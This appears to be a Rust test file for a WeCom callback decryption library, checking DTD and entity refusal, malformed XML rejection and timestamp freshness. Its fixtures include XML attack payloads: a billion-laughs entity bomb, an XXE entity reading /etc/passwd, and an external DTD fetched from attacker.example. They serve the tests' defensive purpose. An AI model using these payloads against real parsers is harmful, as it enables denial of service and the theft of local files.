//! The decrypted message is checked before anyone gets it: one well-formed `<xml>` document,
//! no DTD (so no entity is ever declared, let alone expanded), no unknown entity. And the
//! signed timestamp can be held to a window around the receiver's clock.

use wecom::callback::{CallbackCrypto, CallbackError, Freshness, check_message};

const CORP: &str = "wx5823bf96d3bd56c7";
const LIMIT: usize = 1 << 20;

fn crypto() -> CallbackCrypto {
    CallbackCrypto::new(
        "QDG6eK",
        "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C",
        CORP,
    )
    .expect("valid key")
}

/// Seals `msg` as WeCom would and opens it again.
fn open(msg: &str) -> Result<Vec<u8>, CallbackError> {
    let crypto = crypto();
    let sealed = crypto.seal(msg.as_bytes(), "1700000000", "42");
    crypto.open(
        &sealed.query(),
        sealed.post_body(CORP, Some(1000002)).as_bytes(),
    )
}

const VALID: &str = "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n<FromUserName><![CDATA[mycreate]]></FromUserName>\n<CreateTime>1409659813</CreateTime>\n<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[hello &amp; <b>]]></Content>\n<MsgId>4561255354251345929</MsgId>\n<AgentID>218</AgentID>\n</xml>";

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><MsgType>text</MsgType><Content>&lol9;</Content></xml>"#;

const EXTERNAL_ENTITY: &str = r#"<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><MsgType>text</MsgType><Content>&xxe;</Content></xml>"#;

const EXTERNAL_DTD: &str =
    r#"<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><MsgType>text</MsgType></xml>"#;

fn is_malformed(result: Result<impl std::fmt::Debug, CallbackError>, what: &str) -> String {
    match result {
        Err(CallbackError::MalformedMessage(why)) => why,
        other => panic!("{what}: expected MalformedMessage, got {other:?}"),
    }
}

#[test]
fn a_valid_message_passes_and_opens_unchanged() {
    assert_eq!(check_message(VALID.as_bytes(), LIMIT), Ok(()));
    assert_eq!(open(VALID).expect("opens"), VALID.as_bytes());
    let with_decl = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{VALID}\n");
    assert_eq!(open(&with_decl).expect("opens"), with_decl.as_bytes());
}

#[test]
fn a_doctype_is_refused_without_expanding_anything() {
    for (what, msg) in [
        (
            "internal subset",
            "<!DOCTYPE xml [<!ENTITY a \"b\">]><xml>&a;</xml>",
        ),
        ("billion laughs", BILLION_LAUGHS),
        ("external entity", EXTERNAL_ENTITY),
        ("external DTD", EXTERNAL_DTD),
        ("bare doctype", "<!DOCTYPE xml><xml/>"),
    ] {
        let why = is_malformed(check_message(msg.as_bytes(), LIMIT), what);
        assert!(why.contains("DTD"), "{what}: {why}");
        let why = is_malformed(open(msg), what);
        assert!(why.contains("DTD"), "{what}: {why}");
    }
}

#[test]
fn an_undeclared_entity_is_refused() {
    let msg = "<xml><Content>&xxe;</Content></xml>";
    let why = is_malformed(open(msg), "undeclared entity");
    assert!(why.contains("entity"), "{why}");
}

#[test]
fn what_is_not_one_xml_document_is_refused() {
    for msg in [
        "",
        "this is not xml",
        "{\"MsgType\":\"text\"}",
        "<xml><Content>unclosed</xml>",
        "<xml><A>1</A>",
        "<xml/><xml/>",
        "<xml/>trailing text",
        "<Message><MsgType>text</MsgType></Message>",
    ] {
        is_malformed(open(msg), msg);
    }
    let not_utf8 = crypto().seal(b"<xml>\xff\xfe</xml>", "1700000000", "42");
    is_malformed(
        crypto().open(&not_utf8.query(), not_utf8.post_body(CORP, None).as_bytes()),
        "not utf-8",
    );
}

#[test]
fn the_refusal_has_the_official_parse_error_code() {
    let err = open("not xml").expect_err("refused");
    assert_eq!(err.official_code(), -40002);
}

#[test]
fn freshness_accepts_the_window_and_refuses_outside_it() {
    let fresh = Freshness {
        now_secs: 1_700_000_000,
        max_skew_secs: 300,
    };
    for ok in ["1700000000", "1699999700", "1700000300"] {
        assert_eq!(fresh.check(ok), Ok(()), "{ok}");
    }
    for stale in [
        "1699999699",
        "1700000301",
        "1699996400",
        "1700003600",
        "",
        "-1700000000",
        "+1700000000",
        "17e8",
        " 1700000000",
        "99999999999999999999999",
    ] {
        assert!(
            matches!(
                fresh.check(stale),
                Err(CallbackError::StaleTimestamp { .. })
            ),
            "{stale:?}"
        );
    }
}

#[test]
fn open_fresh_and_verify_url_fresh_check_the_signed_timestamp() {
    let crypto = crypto();
    let now = 1_700_000_000;
    let fresh = Freshness {
        now_secs: now,
        max_skew_secs: 300,
    };
    for (offset, accepted) in [
        (0, true),
        (-299, true),
        (299, true),
        (-3600, false),
        (3600, false),
    ] {
        let ts = (now + offset).to_string();
        let sealed = crypto.seal(VALID.as_bytes(), &ts, "42");
        let body = sealed.post_body(CORP, None);
        let opened = crypto.open_fresh(&sealed.query(), body.as_bytes(), fresh);
        assert_eq!(opened.is_ok(), accepted, "{offset}: {opened:?}");
        // The plain open still accepts it: the official vectors are years old.
        assert!(crypto.open(&sealed.query(), body.as_bytes()).is_ok());

        let echo = crypto.seal(b"1616140317555161061", &ts, "42");
        let mut query = echo.query();
        query.echostr = Some(echo.encrypt.clone());
        let verified = crypto.verify_url_fresh(&query, fresh);
        assert_eq!(verified.is_ok(), accepted, "{offset}: {verified:?}");
    }
    // A forgery is still reported as a forgery, whatever its timestamp.
    let sealed = crypto.seal(VALID.as_bytes(), "1", "42");
    let mut query = sealed.query();
    query.msg_signature = "0".repeat(40);
    assert_eq!(
        crypto.open_fresh(&query, sealed.post_body(CORP, None).as_bytes(), fresh),
        Err(CallbackError::BadSignature)
    );
}
